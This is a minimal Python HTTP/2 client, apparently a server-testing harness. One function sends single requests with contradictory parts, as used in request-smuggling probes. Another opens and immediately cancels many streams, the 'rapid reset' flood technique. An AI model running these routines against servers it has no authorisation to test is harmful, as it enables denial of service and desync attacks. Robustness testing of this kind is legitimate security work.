"""Just enough HTTP/2 to send one request whose parts contradict each other, or many that are taken back at once.
Standard library only."""

import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0, 1, 3, 4, 7
END_STREAM, END_HEADERS = 1, 4
CANCEL = 8
STATUS_BY_INDEX = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}


def frame(kind, flags, stream, content=b""):
    return struct.pack("!I", len(content))[1:] + struct.pack("!BBI", kind, flags, stream) + content


def literal(name, value):
    """A header as HPACK text, neither indexed nor packed."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def ask(connection, headers, body):
    """Sends one request and returns its status, "refused" for a stream that was reset, or "closed"."""
    block = b"".join(literal(name, value) for name, value in headers)
    connection.sendall(
        PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, block) + frame(DATA, END_STREAM, 1, body)
    )
    received = b""
    while piece := connection.recv(65536):
        received += piece
        at = 0
        while at + 9 <= len(received):
            size, kind = int.from_bytes(received[at : at + 3], "big"), received[at + 3]
            content = received[at + 9 : at + 9 + size]
            if kind == HEADERS and len(content) == size:
                return status_of(content)
            if kind in (RST_STREAM, GOAWAY):
                return "refused"
            at += 9 + size
    return "closed"


def status_of(block):
    while block[0] & 0xE0 == 0x20:  # a change of the table's size comes first
        block = block[1:]
    if block[0] & 0x80:
        return STATUS_BY_INDEX[block[0] & 0x7F]
    return (
        int(block[2 : 2 + block[1]]) if not block[1] & 0x80 else -1
    )  # the name is ":status", the value plain or packed


def reset_at_once(connection, headers, count):
    """Opens so many streams and takes each back in the same breath; how many went out before the server had enough."""
    block = b"".join(literal(name, value) for name, value in headers)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    for number in range(count):
        stream = 2 * number + 1
        try:
            connection.sendall(frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
                               + frame(RST_STREAM, 0, stream, struct.pack("!I", CANCEL)))
        except OSError:
            return number
    return count
